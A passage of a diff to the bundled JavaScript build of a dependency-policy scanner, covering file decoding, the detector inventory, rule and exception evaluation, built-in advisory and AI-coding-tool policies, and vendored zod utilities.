+    let text;
+    if (bytes.length >= 2 && bytes[0] === 0xff && bytes[1] === 0xfe) {
+        text = decodeWith(utf16le, bytes, 'UTF-16LE');
+    }
+    else if (bytes.length >= 2 && bytes[0] === 0xfe && bytes[1] === 0xff) {
+        text = decodeWith(utf16be, bytes, 'UTF-16BE');
+    }
+    else {
+        text = decodeWith(utf8, bytes, 'UTF-8');
+    }
+    const nul = text.indexOf('\u0000');
+    if (nul !== -1) {
+        throw new DecodeError('binary data (NUL byte) in a text file', lineAt(text, nul));
+    }
+    return text;
+}
+function decodeWith(decoder, bytes, name) {
+    try {
+        return decoder.decode(bytes);
+    }
+    catch {
+        // Find the first bad byte's line for a located error (UTF-8 only; UTF-16 rarely breaks).
+        let line;
+        if (name === 'UTF-8') {
+            const bad = firstInvalidUtf8(bytes);
+            if (bad >= 0) {
+                line = 1;
+                for (let i = 0; i < bad; i++)
+                    if (bytes[i] === 0x0a)
+                        line++;
+            }
+        }
+        throw new DecodeError(`not valid ${name} text`, line);
+    }
+}
+function firstInvalidUtf8(b) {
+    let i = 0;
+    while (i < b.length) {
+        const c = b[i];
+        let n;
+        if (c < 0x80)
+            n = 0;
+        else if (c >= 0xc2 && c <= 0xdf)
+            n = 1;
+        else if (c >= 0xe0 && c <= 0xef)
+            n = 2;
+        else if (c >= 0xf0 && c <= 0xf4)
+            n = 3;
+        else
+            return i;
+        if (i + n >= b.length && n > 0)
+            return i;
+        for (let k = 1; k <= n; k++)
+            if ((b[i + k] & 0xc0) !== 0x80)
+                return i;
+        i += n + 1;
+    }
+    return -1;
+}
+/** 1-based line number of a character offset. */
+function lineAt(text, offset) {
+    let line = 1;
+    let i = text.indexOf('\n');
+    while (i !== -1 && i < offset) {
+        line++;
+        i = text.indexOf('\n', i + 1);
+    }
+    return line;
+}
+
+;// CONCATENATED MODULE: ./src/engine.ts
+
+
+
+
+/** Which detectors read a path. */
+function detectorsFor(path, list = detectors) {
+    return list.filter((d) => d.matches(path));
+}
+/**
+ * Runs every detector over every file it reads in a source and returns the located components
+ * and the errors. Never throws for a file's content: a file that cannot be read or parsed becomes
+ * an error entry naming it (the gate then fails closed).
+ */
+async function inventory(source, options = {}) {
+    const limits = options.limits ?? defaultLimits;
+    const list = options.detectors ?? detectors;
+    const paths = await source.list();
+    const work = [];
+    for (const path of paths) {
+        if (options.only && !options.only.has(path))
+            continue;
+        const ds = detectorsFor(path, list);
+        if (ds.length > 0)
+            work.push({ path, detectors: ds });
+    }
+    const textCache = new Map();
+    const readText = (path) => {
+        const rel = normalizeRelative(path);
+        if (rel === null)
+            return Promise.resolve(null);
+        let p = textCache.get(rel);
+        if (!p) {
+            p = source
+                .read(rel, limits.maxFileBytes)
+                .then((b) => (b === null ? null : decodeText(b)))
+                .catch(() => null);
+            textCache.set(rel, p);
+        }
+        return p;
+    };
+    const results = new Array(work.length);
+    let next = 0;
+    const worker = async () => {
+        while (next < work.length) {
+            const i = next++;
+            results[i] = await scanFile(source, work[i].path, work[i].detectors, limits, readText);
+        }
+    };
+    await Promise.all(Array.from({ length: Math.max(1, options.concurrency ?? 8) }, worker));
+    const components = [];
+    const errors = [];
+    for (const r of results) {
+        for (const c of r.components)
+            components.push(c);
+        for (const e of r.errors)
+            errors.push(e);
+    }
+    return {
+        components: dedupeAndSort(components),
+        errors: errors.sort(compareErrors),
+        filesScanned: work.length,
+        files: work.map((w) => w.path),
+    };
+}
+async function scanFile(source, path, detectors, limits, readText) {
+    let bytes;
+    try {
+        bytes = await source.read(path, limits.maxFileBytes);
+    }
+    catch (e) {
+        const message = e instanceof SourceReadError ? e.message : `cannot be read: ${errorMessage(e)}`;
+        return { components: [], errors: [{ file: path, message }] };
+    }
+    if (bytes === null)
+        return { components: [], errors: [] };
+    let text;
+    let decodeError;
+    const components = [];
+    const errors = [];
+    for (const detector of detectors) {
+        if (!detector.binary && text === undefined && decodeError === undefined) {
+            try {
+                text = decodeText(bytes);
+            }
+            catch (e) {
+                decodeError = {
+                    file: path,
+                    ...(e instanceof DecodeError && e.line ? { line: e.line } : {}),
+                    message: e instanceof DecodeError ? e.message : errorMessage(e),
+                };
+                errors.push(decodeError);
+            }
+        }
+        if (!detector.binary && decodeError)
+            continue;
+        const input = { path, text: text ?? '', bytes, readFile: readText, limits };
+        try {
+            const result = await detector.detect(input);
+            if (result.components.length > limits.maxComponentsPerFile) {
+                errors.push({
+                    file: path,
+                    message: `${result.components.length} components exceed the limit of ${limits.maxComponentsPerFile} per file`,
+                });
+                continue;
+            }
+            for (const c of result.components)
+                components.push(c);
+            for (const err of result.errors)
+                errors.push(err);
+        }
+        catch (e) {
+            // A detector bug or a parser blowing up on hostile input: report it, located, never crash.
+            errors.push({ file: path, message: `${detector.id}: ${errorMessage(e)}` });
+        }
+    }
+    return { components, errors };
+}
+function errorMessage(e) {
+    if (e instanceof RangeError && /call stack/i.test(e.message))
+        return 'nesting too deep to parse';
+    if (e instanceof Error)
+        return e.message.split('\n')[0] ?? String(e);
+    return String(e);
+}
+function componentKey(c) {
+    return [
+        c.location.file,
+        c.location.line,
+        c.ecosystem,
+        c.name,
+        c.version ?? '',
+        c.spec ?? '',
+        c.alias ?? '',
+        c.source,
+    ].join('\u0000');
+}
+function dedupeAndSort(components) {
+    const seen = new Map();
+    for (const c of components) {
+        const k = componentKey(c);
+        if (!seen.has(k))
+            seen.set(k, c);
+    }
+    return [...seen.values()].sort(compareComponents);
+}
+function compareComponents(a, b) {
+    return (cmp(a.location.file, b.location.file) ||
+        a.location.line - b.location.line ||
+        cmp(a.ecosystem, b.ecosystem) ||
+        cmp(a.name, b.name) ||
+        cmp(a.version ?? '', b.version ?? ''));
+}
+function compareErrors(a, b) {
+    return cmp(a.file, b.file) || (a.line ?? 0) - (b.line ?? 0) || cmp(a.message, b.message);
+}
+function cmp(a, b) {
+    return a < b ? -1 : a > b ? 1 : 0;
+}
+
+// EXTERNAL MODULE: ./node_modules/picomatch/index.js
+var picomatch = __nccwpck_require__(14006);
+var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
+;// CONCATENATED MODULE: ./src/policy/names.ts
+/** The canonical form of a name for comparison in its ecosystem. */
+function normalizeName(ecosystem, name) {
+    switch (ecosystem) {
+        case 'pypi':
+            return name.toLowerCase().replace(/[-_.]+/g, '-'); // PEP 503
+        case 'vscode-extension': // publisher.name, case-insensitive
+        case 'devcontainer-feature': // OCI ids are lowercase
+        case 'github-action': // owner/repo, case-insensitive on GitHub
+        case 'homebrew':
+        case 'installer':
+            return name.toLowerCase();
+        default:
+            return name; // npm and jsr names are case-sensitive (and lowercase when published)
+    }
+}
+/**
+ * A name glob: `*` is any run of characters (including `/`, so `@anthropic-ai/*` and `*` cover
+ * scoped names and `owner/*` covers every action of an owner), `?` one character; nothing else is
+ * special. Matched by the classic two-pointer wildcard algorithm: O(pattern × name) at worst, no
+ * regular-expression backtracking on hostile patterns.
+ */
+function globMatches(pattern, name) {
+    let p = 0;
+    let n = 0;
+    let star = -1;
+    let mark = 0;
+    while (n < name.length) {
+        if (p < pattern.length && (pattern[p] === '?' || pattern[p] === name[n])) {
+            p++;
+            n++;
+        }
+        else if (p < pattern.length && pattern[p] === '*') {
+            star = p++;
+            mark = n;
+        }
+        else if (star >= 0) {
+            p = star + 1;
+            n = ++mark;
+        }
+        else
+            return false;
+    }
+    while (p < pattern.length && pattern[p] === '*')
+        p++;
+    return p === pattern.length;
+}
+/** Whether a name matches an exact name or a `*` glob, in the ecosystem's comparison. */
+function nameMatches(ecosystem, pattern, name) {
+    const p = normalizeName(ecosystem, pattern);
+    const n = normalizeName(ecosystem, name);
+    if (!p.includes('*') && !p.includes('?'))
+        return p === n;
+    return globMatches(p, n);
 }
 
 ;// CONCATENATED MODULE: ./src/policy/evaluate.ts
 
 
 
+function carrierKey(ecosystem, name) {
+    return `${ecosystem}\u0000${name}`;
+}
 /** Judges every component against every rule and exception of a merged policy. */
 function evaluate(components, policy, options) {
     const now = options.now ?? new Date();
+    // Tool rules expand to their carriers, indexed by identity: one look-up per component.
+    const byCarrier = new Map();
+    const packageRules = [];
+    policy.rules.forEach((rule, ruleIndex) => {
+        if (rule.tool !== undefined) {
+            const tool = options.catalog.tool(rule.tool);
+            if (!tool)
+                return;
+            for (const carrier of tool.carriers) {
+                const k = carrierKey(carrier.ecosystem, normalizeName(carrier.ecosystem, carrier.package));
+                const list = byCarrier.get(k) ?? [];
+                if (!list.some((e) => e.rule === rule))
+                    list.push({ ruleIndex, rule, tool, carrier });
+                byCarrier.set(k, list);
+            }
+        }
+        else {
+            packageRules.push({ ruleIndex, rule });
+        }
+    });
+    const exceptionState = new Map();
+    for (const ex of policy.exceptions)
+        exceptionState.set(ex, { used: false, expired: isExpired(ex, now) });
     const findings = [];
-    const used = new Set();
-    const expiredNoticed = new Set();
-    const notices = [];
-    const carriersByRule = new Map();
-    for (const rule of policy.rules) {
-        if (rule.tool)
-            carriersByRule.set(rule, options.catalog.tool(rule.tool)?.carriers ?? []);
-    }
     for (const component of components) {
-        for (const rule of policy.rules) {
-            const match = matchRule(rule, component, carriersByRule.get(rule));
-            if (!match)
+        const matches = [];
+        for (const e of byCarrier.get(carrierKey(component.ecosystem, normalizeName(component.ecosystem, component.name))) ?? []) {
+            const m = matchToolRule(e, component);
+            if (m)
+                matches.push({ ruleIndex: e.ruleIndex, match: m });
+        }
+        for (const { ruleIndex, rule } of packageRules) {
+            const m = matchPackageRule(rule, component);
+            if (m)
+                matches.push({ ruleIndex, match: m });
+        }
+        matches.sort((a, b) => a.ruleIndex - b.ruleIndex);
+        for (const { match } of matches) {
+            const unknownAction = unknownActionFor(match.rule, policy.settings.unknownVersion);
+            if (match.unknown !== undefined && unknownAction === 'ignore')
                 continue;
-            if (match.unknown && policy.settings.unknownVersion === 'ignore')
-                continue;
-            const action = match.unknown ? policy.settings.unknownVersion : rule.action;
-            if (action === 'ignore')
-                continue;
-            const finding = {
-                ruleId: rule.id,
-                action,
-                message: messageFor(rule, component, match),
-                component: {
-                    ecosystem: component.ecosystem,
-                    name: component.name,
-                    version: component.version,
-                    purl: component.purl,
-                    ...(component.spec !== undefined ? { spec: component.spec } : {}),
-                    ...(component.alias !== undefined ? { alias: component.alias } : {}),
-                },
-                ...(match.tool ? { tool: match.tool, toolVersion: match.toolVersion ?? null } : {}),
-                location: component.location,
-                source: component.source,
-                ...(rule.reason ? { reason: rule.reason } : {}),
-                ...(rule.link ? { link: rule.link } : {}),
-                ...(match.unknown ? { unknownVersion: true } : {}),
-            };
+            const finding = findingFor(component, match, unknownAction);
             for (const ex of policy.exceptions) {
-                if (!exceptionApplies(ex, rule, component, match))
+                if (!exceptionApplies(ex, match, component))
                     continue;
-                if (isExpired(ex, now)) {
-                    if (!expiredNoticed.has(ex)) {
-                        expiredNoticed.add(ex);
-                        notices.push({
-                            kind: 'expired-exception',
-                            message: `exception for rule ${ex.rule} expired on ${ex.expires} and no longer applies (${ex.reason})`,
-                            ...(ex.origin ? { origin: ex.origin } : {}),
-                        });
-                    }
-                    used.add(ex);
+                const state = exceptionState.get(ex);
+                state.used = true;
+                if (state.expired)
                     continue;
-                }
-                used.add(ex);
                 finding.action = 'pass';
                 finding.exception = { reason: ex.reason, expires: ex.expires };
                 break;
@@ -19707,64 +19765,164 @@ function evaluate(components, policy, options) {
             findings.push(finding);
         }
     }
+    const notices = [];
     for (const ex of policy.exceptions) {
-        if (used.has(ex))
-            continue;
-        notices.push({
-            kind: isExpired(ex, now) ? 'expired-exception' : 'stale-exception',
-            message: isExpired(ex, now)
-                ? `exception for rule ${ex.rule} expired on ${ex.expires} (${ex.reason})`
-                : `exception for rule ${ex.rule} matches nothing: it is stale and can be removed (${ex.reason})`,
-            ...(ex.origin ? { origin: ex.origin } : {}),
-        });
+        const state = exceptionState.get(ex);
+        const where = ex.origin ? { origin: ex.origin } : {};
+        if (state.expired) {
+            notices.push({
+                kind: 'expired-exception',
+                message: `exception for rule ${ex.rule} expired on ${ex.expires} and no longer applies (${ex.reason})`,
+                ...where,
+            });
+        }
+        else if (!state.used) {
+            notices.push({
+                kind: 'stale-exception',
+                message: `exception for rule ${ex.rule} matches nothing: it is stale and can be removed (${ex.reason})`,
+                ...where,
+            });
+        }
     }
     return { findings, notices };
 }
-function matchRule(rule, c, carriers) {
-    if (rule.tool) {
-        for (const carrier of carriers ?? []) {
-            if (carrier.ecosystem !== c.ecosystem || !nameMatches(c.ecosystem, carrier.package, c.name))
-                continue;
-            const toolVersion = c.version === null ? null : carrier.toolVersion(c.version);
-            if (rule.versions === undefined)
-                return { rule, tool: rule.tool, toolVersion, unknown: false };
-            if (toolVersion === null)
-                return { rule, tool: rule.tool, toolVersion, unknown: true };
-            return versionSatisfies('tool', toolVersion, rule.versions)
-                ? { rule, tool: rule.tool, toolVersion, unknown: false }
-                : null;
-        }
-        return null;
+const STRICTNESS = { ignore: 0, warn: 1, fail: 2 };
+/** What an unknown version becomes under a rule: the setting, or the locked rule's floor if stricter. */
+function unknownActionFor(rule, setting) {
+    const floor = rule.unknownVersionFloor;
+    return floor !== undefined && STRICTNESS[floor] > STRICTNESS[setting] ? floor : setting;
+}
+function mappingOf(carrier, version) {
+    try {
+        return carrier.toolVersion(version);
     }
-    if (rule.ecosystem && rule.ecosystem !== c.ecosystem)
+    catch (e) {
+        return { kind: 'unknown', why: `the version cannot be mapped (${e.message})` };
+    }
+}
+function notPinned(c) {
+    if (c.versionNote)
+        return c.versionNote;
+    return c.spec !== undefined ? `the version is not pinned (${c.spec})` : 'no version is recorded';
+}
+function matchToolRule({ rule, tool, carrier }, c) {
+    const mapping = c.version === null ? null : mappingOf(carrier, c.version);
+    if (rule.versions === undefined) {
+        const toolVersion = mapping?.kind === 'exact'
+            ? mapping.versions[0]
+            : mapping?.kind === 'atLeast'
+                ? `>=${mapping.version}`
+                : null;
+        return { rule, tool, toolVersion };
+    }
+    if (mapping === null)
+        return { rule, tool, toolVersion: null, unknown: notPinned(c) };
+    switch (mapping.kind) {
+        case 'unknown':
+            return { rule, tool, toolVersion: null, unknown: mapping.why };
+        case 'exact': {
+            const hit = mapping.versions.find((v) => versionSatisfies(tool.versionScheme, v, rule.versions));
+            return hit === undefined ? null : { rule, tool, toolVersion: hit };
+        }
+        case 'atLeast': {
+            if (tool.versionScheme !== 'semver')
+                return { rule, tool, toolVersion: null, unknown: mapping.why };
+            const where = lowerBoundIn(mapping.version, rule.versions);
+            if (where === 'out')
+                return null;
+            if (where === 'in')
+                return { rule, tool, toolVersion: `>=${mapping.version}` };
+            return { rule, tool, toolVersion: `>=${mapping.version}`, unknown: mapping.why };
+        }
+    }
+}
+function matchPackageRule(rule, c) {
+    if (rule.ecosystem !== undefined && rule.ecosystem !== c.ecosystem)
         return null;
-    if (rule.package && !nameMatches(c.ecosystem, rule.package, c.name))
+    if (rule.package !== undefined && !nameMatches(c.ecosystem, rule.package, c.name))
         return null;
     if (rule.versions === undefined)
-        return { rule, unknown: false };
+        return { rule };
     if (c.version === null)
-        return { rule, unknown: true };
-    return versionSatisfies(c.ecosystem, c.version, rule.versions) ? { rule, unknown: false } : null;
+        return { rule, unknown: notPinned(c) };
+    return versionSatisfies(syntaxOf(c.ecosystem), c.version, rule.versions) ? { rule } : null;
 }
-function exceptionApplies(ex, rule, c, match) {
-    if (ex.rule !== rule.id)
+function findingFor(c, match, unknownSetting) {
+    const { rule } = match;
+    const action = match.unknown !== undefined ? (unknownSetting === 'ignore' ? 'warn' : unknownSetting) : rule.action;
+    return {
+        ruleId: rule.id,
+        action,
+        message: messageFor(c, match),
+        component: {
+            ecosystem: c.ecosystem,
+            name: c.name,
+            version: c.version,
+            purl: c.purl,
+            ...(c.spec !== undefined ? { spec: c.spec } : {}),
+            ...(c.alias !== undefined ? { alias: c.alias } : {}),
+        },
+        ...(match.tool ? { tool: match.tool.id, toolVersion: match.toolVersion ?? null } : {}),
+        location: c.location,
+        source: c.source,
+        ...(rule.reason ? { reason: rule.reason } : {}),
+        ...(rule.link ? { link: rule.link } : {}),
+        ...(match.unknown !== undefined ? { unknownVersion: true, unknownReason: match.unknown } : {}),
+    };
+}
+function messageFor(c, match) {
+    const { rule, tool } = match;
+    const version = c.version !== null ? ` ${c.version}` : c.spec !== undefined ? ` (${c.spec})` : '';
+    const alias = c.alias !== undefined ? ` (installed as ${c.alias})` : '';
+    const what = `${c.name}${version}${alias}`;
+    const carries = tool && match.toolVersion && match.toolVersion !== c.version
+        ? ` (${tool.name} ${match.toolVersion})`
+        : tool && tool.id !== c.name && !match.toolVersion && match.unknown === undefined
+            ? ` (${tool.name})`
+            : '';
+    if (match.unknown !== undefined) {
+        const why = rule.reason ? ` (${rule.reason})` : '';
+        return `${what}${carries} may be banned by rule ${rule.id}${why}, but its ${tool ? `${tool.name} ` : ''}version cannot be known: ${match.unknown}`;
+    }
+    const verb = rule.action === 'fail' ? 'is banned' : 'is flagged';
+    return `${what}${carries} ${verb}${rule.reason ? `: ${rule.reason}` : ` by rule ${rule.id}`}`;
+}
+const pathMatchers = new Map();
+function pathMatches(glob, file) {
+    let m = pathMatchers.get(glob);
+    if (!m) {
+        m = picomatch_default()(glob, { dot: true });
+        pathMatchers.set(glob, m);
+    }
+    return m(file);
+}
+function exceptionApplies(ex, match, c) {
+    if (ex.rule !== match.rule.id)
         return false;
-    if (ex.package && !nameMatches(c.ecosystem, ex.package, c.name))
+    if (ex.package !== undefined && !nameMatches(c.ecosystem, ex.package, c.name))
         return false;
     if (ex.versions !== undefined) {
-        if (c.version === null)
+        // An exception limited to versions cannot vouch for a version nobody knows.
+        if (match.unknown !== undefined)
             return false;
-        const inCarrier = versionSatisfies(c.ecosystem, c.version, ex.versions);
-        const inTool = match.toolVersion !== undefined &&
-            match.toolVersion !== null &&
-            versionSatisfies('tool', match.toolVersion, ex.versions);
-        if (!inCarrier && !inTool)
-            return false;
+        if (match.tool) {
+            const tv = match.toolVersion;
+            if (tv === null || tv === undefined)
+                return false;
+            if (tv.startsWith('>=')) {
+                if (lowerBoundIn(tv.slice(2), ex.versions) !== 'in')
+                    return false;
+            }
+            else if (!versionSatisfies(match.tool.versionScheme, tv, ex.versions))
+                return false;
+        }
+        else {
+            if (c.version === null || !versionSatisfies(syntaxOf(c.ecosystem), c.version, ex.versions))
+                return false;
+        }
     }
-    if (ex.paths && ex.paths.length > 0) {
-        if (!ex.paths.some((g) => picomatch_default()(g, { dot: true })(c.location.file)))
-            return false;
-    }
+    if (ex.paths && ex.paths.length > 0 && !ex.paths.some((g) => pathMatches(g, c.location.file)))
+        return false;
     return true;
 }
 /** An exception applies through the whole of its expiry day (UTC). */
@@ -19772,21 +19930,11061 @@ function isExpired(ex, now) {
     const end = Date.parse(`${ex.expires}T23:59:59.999Z`);
     return Number.isNaN(end) || now.getTime() > end;
 }
-function messageFor(rule, c, match) {
-    const what = `${c.name}${c.version ? ' ' + c.version : c.spec ? ' ' + c.spec : ''}`;
-    const via = match.tool && match.toolVersion && match.toolVersion !== c.version
-        ? ` (${match.tool} ${match.toolVersion})`
-        : '';
-    if (match.unknown) {
-        const why = c.versionNote
-            ? `: ${c.versionNote}`
-            : c.version === null
-                ? ': the version is not pinned'
-                : ': the version cannot be mapped to the tool version';
-        return `${what}${via} may be banned by rule ${rule.id}, but its version cannot be known${why}`;
+
+;// CONCATENATED MODULE: ./src/policy/builtin.ts
+// The built-in policies: `builtin:advisories` (evidence-backed bans, locked), `builtin:ai-coding-tools`
+// (every catalog tool, warn) and `builtin:default` (what runs without a policy file).
+
+
+const BUILTIN_NAMES = ['builtin:default', 'builtin:advisories', 'builtin:ai-coding-tools'];
+function isBuiltinName(ref) {
+    return BUILTIN_NAMES.includes(ref);
+}
+function origin(name) {
+    return { file: name, line: 0, column: 0 };
+}
+/** A built-in policy as a parsed file, merged exactly like the files that extend it. */
+function builtinPolicyFile(name) {
+    const base = { file: name, extends: [], rules: [], exceptions: [], fieldOrigins: new WeakMap() };
+    switch (name) {
+        case 'builtin:default':
+            return { ...base, extends: [{ ref: 'builtin:advisories', origin: origin(name) }] };
+        case 'builtin:advisories':
+            return {
+                ...base,
+                rules: advisories.map((a) => ({
+                    id: a.id,
+                    tool: a.tool,
+                    versions: a.versions,
+                    action: 'fail',
+                    locked: true,
+                    unknownVersionFloor: 'warn',
+                    reason: `${a.id}: ${a.title} in ${a.versions} (first clean release ${a.firstClean})`,
+                    origin: origin(name),
+                })),
+            };
+        case 'builtin:ai-coding-tools':
+            return {
+                ...base,
+                rules: tools_tools.map((t) => ({
+                    id: `ai-coding-tools/${t.id}`,
+                    tool: t.id,
+                    action: 'warn',
+                    reason: `${t.name} (${t.vendor}) is an AI coding tool`,
+                    origin: origin(name),
+                })),
+            };
     }
-    const verb = rule.action === 'fail' ? 'is banned' : 'is flagged';
-    return `${what}${via} ${verb}${rule.reason ? ': ' + rule.reason : ` by rule ${rule.id}`}`;
+}
+
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(38815);
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/util.js
+
+// functions
+function assertEqual(val) {
+    return val;
+}
+function assertNotEqual(val) {
+    return val;
+}
+function toZod() {
+    return (schema) => schema;
+}
+function assertIs(_arg) { }
+function assertNever(_x) {
+    throw new Error("Unexpected value in exhaustive check");
+}
+function assert(_) { }
+function getEnumValues(entries) {
+    const numericValues = Object.values(entries).filter((v) => typeof v === "number");
+    const values = Object.entries(entries)
+        .filter(([k, _]) => numericValues.indexOf(+k) === -1)
+        .map(([_, v]) => v);
+    return values;
+}
+function joinValues(array, separator = "|") {
+    return array.map((val) => stringifyPrimitive(val)).join(separator);
+}
+function jsonStringifyReplacer(_, value) {
+    if (typeof value === "bigint")
+        return value.toString();
+    return value;
+}
+// the accessor lives on a shared prototype: an own accessor makes every box a dictionary-mode object (~360 B and a slow load per read against ~100 B and an inlined getter here)
+class Cached {
+    constructor(getter) {
+        this._getter = getter;
+        this._value = undefined;
+    }
+    get value() {
+        const getter = this._getter;
+        if (getter !== undefined) {
+            this._value = getter();
+            this._getter = undefined;
+        }
+        return this._value;
+    }
+}
+function cached(getter) {
+    return new Cached(getter);
+}
+function nullish(input) {
+    return input === null || input === undefined;
+}
+function util_cleanRegex(source) {
+    const start = source.startsWith("^") ? 1 : 0;
+    const end = source.endsWith("$") ? source.length - 1 : source.length;
+    return source.slice(start, end);
+}
+function floatSafeRemainder(val, step) {
+    const ratio = val / step;
+    const roundedRatio = Math.round(ratio);
+    // `val` and `step` each round to a double before the division rounds again, so a true decimal multiple's quotient can sit up to 1.5 of these scaled epsilons from the integer. A 1x tolerance therefore rejected 2.03 as a multiple of 0.07; 4x covers the worst case with margin.
+    const tolerance = 4 * Number.EPSILON * Math.max(Math.abs(ratio), 1);
+    if (Math.abs(ratio - roundedRatio) < tolerance)
+        return 0;
+    return ratio - roundedRatio;
+}
+const EVALUATING = /* @__PURE__*/ (/* unused pure expression or super */ null && (Symbol("evaluating")));
+function defineLazy(object, key, getter) {
+    let value = undefined;
+    Object.defineProperty(object, key, {
+        get() {
+            if (value === EVALUATING) {
+                // Circular reference detected, return undefined to break the cycle
+                return undefined;
+            }
+            if (value === undefined) {
+                value = EVALUATING;
+                value = getter();
+            }
+            return value;
+        },
+        set(v) {
+            Object.defineProperty(object, key, {
+                value: v,
+                // configurable: true,
+            });
+            // object[key] = v;
+        },
+        configurable: true,
+    });
+}
+function objectClone(obj) {
+    return Object.create(Object.getPrototypeOf(obj), Object.getOwnPropertyDescriptors(obj));
+}
+function util_assignProp(target, prop, value) {
+    Object.defineProperty(target, prop, {
+        value,
+        writable: true,
+        enumerable: true,
+        configurable: true,
+    });
+}
+/**
+ * Whichever object a def's `shape` currently answers from: the one the caller passed until the first read, the frozen copy after it.
+ *
+ * Its keys and descriptors read without invoking anything, which is what lets a discriminated union check its discriminator, and the cycle walk read a shape, without resolving a getter that references the schema being constructed. A def that answers `shape` from an accessor of its own has none.
+ */
+function rawShape(def) {
+    const desc = Object.getOwnPropertyDescriptor(def, "shape");
+    return desc?.get ? desc.get.raw : desc?.value;
+}
+// where a builder reads its source's keys and descriptors, resolving only a shape a def answers for itself. A shape resolves by object spread, so only its enumerable keys are ever part of it.
+function sourceShape(schema) {
+    return rawShape(schema._zod.def) ?? schema._zod.def.shape;
+}
+// a key whose value is not settled yet, self-caching so every read after the first gets the same one
+function deferProp(target, key, getter) {
+    Object.defineProperty(target, key, {
+        get() {
+            const value = getter();
+            util_assignProp(this, key, value);
+            return value;
+        },
+        enumerable: true,
+        configurable: true,
+    });
+}
+// Writes a settled key. A plain assignment is much cheaper than `defineProperty` and produces the same descriptor, but it runs whatever setter already answers to the key — an accessor this shape deferred, or an inherited one, which `__proto__` has on every object and prototype pollution can add for any name.
+function putProp(target, key, value) {
+    if (key in target)
+        util_assignProp(target, key, value);
+    else
+        target[key] = value;
+}
+/**
+ * Copies `keys` of `source`'s shape onto `target`, each value passed through `wrap`.
+ *
+ * A key the source has resolved is copied through now, so the derived shape states it outright and nothing has to resolve it to learn what it holds. A key the source still defers stays deferred, and reads back through the source's own `shape`, so it resolves once and both shapes get that one schema.
+ */
+function mirrorShape(target, source, keys, wrap) {
+    const raw = sourceShape(source);
+    for (const key of keys) {
+        const desc = Object.getOwnPropertyDescriptor(raw, key);
+        if (!desc.enumerable)
+            continue;
+        if (desc.get) {
+            deferProp(target, key, () => {
+                const value = source._zod.def.shape[key];
+                return wrap ? wrap(value, key) : value;
+            });
+        }
+        else
+            putProp(target, key, wrap ? wrap(desc.value, key) : desc.value);
+    }
+}
+// same, for a plain shape a caller passed rather than a schema's
+function mirrorProps(target, source) {
+    for (const key of Reflect.ownKeys(source)) {
+        const desc = Object.getOwnPropertyDescriptor(source, key);
+        if (!desc.enumerable)
+            continue;
+        if (desc.get)
+            deferProp(target, key, () => source[key]);
+        else
+            putProp(target, key, desc.value);
+    }
+}
+function mergeDefs(...defs) {
+    const mergedDescriptors = {};
+    for (const def of defs) {
+        const descriptors = Object.getOwnPropertyDescriptors(def);
+        Object.assign(mergedDescriptors, descriptors);
+    }
+    return Object.defineProperties({}, mergedDescriptors);
+}
+function cloneDef(schema) {
+    return mergeDefs(schema._zod.def);
+}
+function getElementAtPath(obj, path) {
+    if (!path)
+        return obj;
+    return path.reduce((acc, key) => acc?.[key], obj);
+}
+function promiseAllObject(promisesObj) {
+    const keys = Object.keys(promisesObj);
+    const promises = keys.map((key) => promisesObj[key]);
+    return Promise.all(promises).then((results) => {
+        const resolvedObj = {};
+        for (let i = 0; i < keys.length; i++) {
+            resolvedObj[keys[i]] = results[i];
+        }
+        return resolvedObj;
+    });
+}
+function randomString(length = 10) {
+    const chars = "abcdefghijklmnopqrstuvwxyz";
+    let str = "";
+    for (let i = 0; i < length; i++) {
+        str += chars[Math.floor(Math.random() * chars.length)];
+    }
+    return str;
+}
+function esc(str) {
+    return JSON.stringify(str);
+}
+function slugify(input) {
+    return input
+        .toLowerCase()
+        .trim()
+        .replace(/[^\w\s-]/g, "")
+        .replace(/[\s_-]+/g, "-")
+        .replace(/^-+|-+$/g, "");
+}
+const captureStackTrace = ("captureStackTrace" in Error ? Error.captureStackTrace : (..._args) => { });
+function util_isObject(data) {
+    return typeof data === "object" && data !== null && !Array.isArray(data);
+}
+const util_allowsEval = /* @__PURE__*/ cached(() => {
+    // Skip the probe under `jitless`: strict CSPs report the caught `new Function` as a `securitypolicyviolation` even though the throw is swallowed.
+    if (globalConfig.jitless) {
+        return false;
+    }
+    // @ts-ignore
+    if (typeof navigator !== "undefined" && navigator?.userAgent?.includes("Cloudflare")) {
+        return false;
+    }
+    try {
+        const F = Function;
+        new F("");
+        return true;
+    }
+    catch (_) {
+        return false;
+    }
+});
+function isPlainObject(o) {
+    if (util_isObject(o) === false)
+        return false;
+    // modified constructor
+    const ctor = o.constructor;
+    if (ctor === undefined)
+        return true;
+    if (typeof ctor !== "function")
+        return true;
+    // modified prototype
+    const prot = ctor.prototype;
+    if (util_isObject(prot) === false)
+        return false;
+    // ctor doesn't have static `isPrototypeOf`
+    if (Object.prototype.hasOwnProperty.call(prot, "isPrototypeOf") === false) {
+        return false;
+    }
+    return true;
+}
+function shallowClone(o) {
+    if (isPlainObject(o))
+        return { ...o };
+    if (Array.isArray(o))
+        return [...o];
+    if (o instanceof Map)
+        return new Map(o);
+    if (o instanceof Set)
+        return new Set(o);
+    return o;
+}
+function numKeys(data) {
+    let keyCount = 0;
+    for (const key in data) {
+        if (Object.prototype.hasOwnProperty.call(data, key)) {
+            keyCount++;
+        }
+    }
+    return keyCount;
+}
+const getParsedType = (data) => {
+    const t = typeof data;
+    switch (t) {
+        case "undefined":
+            return "undefined";
+        case "string":
+            return "string";
+        case "number":
+            return Number.isNaN(data) ? "nan" : "number";
+        case "boolean":
+            return "boolean";
+        case "function":
+            return "function";
+        case "bigint":
+            return "bigint";
+        case "symbol":
+            return "symbol";
+        case "object":
+            if (Array.isArray(data)) {
+                return "array";
+            }
+            if (data === null) {
+                return "null";
+            }
+            if (data.then && typeof data.then === "function" && data.catch && typeof data.catch === "function") {
+                return "promise";
+            }
+            if (typeof Map !== "undefined" && data instanceof Map) {
+                return "map";
+            }
+            if (typeof Set !== "undefined" && data instanceof Set) {
+                return "set";
+            }
+            if (typeof Date !== "undefined" && data instanceof Date) {
+                return "date";
+            }
+            // @ts-ignore
+            if (typeof File !== "undefined" && data instanceof File) {
+                return "file";
+            }
+            return "object";
+        default:
+            throw new Error(`Unknown data type: ${t}`);
+    }
+};
+const propertyKeyTypes = /* @__PURE__*/ new Set(["string", "number", "symbol"]);
+const primitiveTypes = /* @__PURE__*/ new Set([
+    "string",
+    "number",
+    "bigint",
+    "boolean",
